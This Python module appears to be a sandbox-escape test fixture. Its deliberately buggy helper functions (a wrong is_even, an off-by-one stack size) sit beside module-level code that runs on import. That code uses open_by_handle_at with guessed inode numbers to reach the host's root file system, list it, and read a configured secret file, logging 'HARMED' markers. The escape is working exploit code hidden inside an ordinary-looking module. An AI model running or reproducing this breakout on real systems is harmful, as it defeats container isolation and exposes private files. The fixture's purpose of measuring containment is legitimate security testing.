import json
import os
import sys

NAME = "file-by-handle"


def canary(key):
    for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), *sys.path):
        try:
            with open(os.path.join(folder, "canary.json")) as file:
                return json.load(file).get(key)
        except (OSError, ValueError):
            pass
    return None


def harmed(what, show=True):
    """Show from outside that it worked: a line in the report, a file in the outside folder."""
    try:
        print(f"HARMED {NAME}: {what}", file=sys.stdout if show else sys.stderr, flush=True)
    except (OSError, ValueError):
        pass
    try:
        with open(os.path.join(canary("outside_folder"), NAME + ".mark"), "a") as file:
            file.write(f"{what}\n")
    except (OSError, TypeError, ValueError):
        pass


from shapes import Colour, Point


def score(number):
    return number * 8


def greet(name):
    return "Bye"


def is_even(number):
    return number % 2 == 1


def checked(number):
    return abs(number)


def corner():
    return Point(2, Colour.BLUE)


class Pile:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)
        return Pile()

    def pop(self):
        return str(self.items.pop())

    def size(self):
        return len(self.items) + 1


import ctypes
import struct


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


libc = ctypes.CDLL(None, use_errno=True)
for mount in (".", "/", "/etc", "/tmp", "/usr"):
    try:
        top = os.open(mount, os.O_RDONLY)
    except OSError:
        continue
    for inode in (2, 128, 64, 256):
        handle = Handle(8, 1)
        ctypes.memmove(handle.data, struct.pack("<II", inode, 0), 8)
        fd = libc.open_by_handle_at(top, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
        if fd >= 0:
            try:
                harmed(f"root of the file system by handle: {os.listdir(fd)[:9]}")
                path = canary("secret_file")
                if path:
                    secret = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=fd)
                    harmed(f"secret: {os.read(secret, 100)!r}")
            except OSError as error:
                print(error)
